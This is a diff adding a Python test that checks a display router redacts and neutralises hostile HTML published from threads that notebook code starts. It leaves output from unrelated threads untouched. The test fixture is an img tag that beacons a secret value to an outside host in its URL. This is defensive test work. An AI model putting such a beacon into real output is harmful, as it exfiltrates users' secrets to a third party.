@@ -265,6 +265,42 @@ def test_router_rewrites_display_and_update_then_redacts_and_the_sink_gets_the_o
     assert shell.display_pub.published[-1][0] is hostile
 
 
+def test_threads_the_code_starts_are_rewritten_and_redacted_but_not_captured():
+    shell = _Shell()
+    seen: list[dict[str, Any]] = []
+    hostile = {"text/html": f'<img src="{BASE}/t.png?k=SECRET-VALUE-2">'}
+
+    def show() -> None:
+        shell.display_pub.publish(data=hostile)
+
+    def spawn(target) -> None:
+        thread = threading.Thread(target=target)
+        thread.start()
+        thread.join()
+
+    def worker() -> None:
+        capture_current_thread(
+            lambda text: None,
+            shell,
+            seen.append,
+            redact=lambda s: s.replace("SECRET-VALUE-2", "[redacted:K]"),
+        )
+        try:
+            spawn(show)  # a thread the code starts
+            spawn(lambda: spawn(show))  # and a thread that one starts
+        finally:
+            release_current_thread()
+
+    spawn(worker)
+    assert seen == []  # the model reads what the worker itself displays, as before
+    assert len(shell.display_pub.published) == 2
+    for data, _, _ in shell.display_pub.published:
+        _assert_loads_nothing(data)
+        assert "SECRET-VALUE-2" not in data["text/html"] and "[redacted:K]" in data["text/html"]
+    spawn(show)  # a thread started by anything else: untouched
+    assert shell.display_pub.published[-1][0] is hostile
+
+
 # --- a real kernel -------------------------------------------------------------------------
 def _displays(messages: list[dict[str, Any]]) -> list[dict[str, Any]]:
     return [
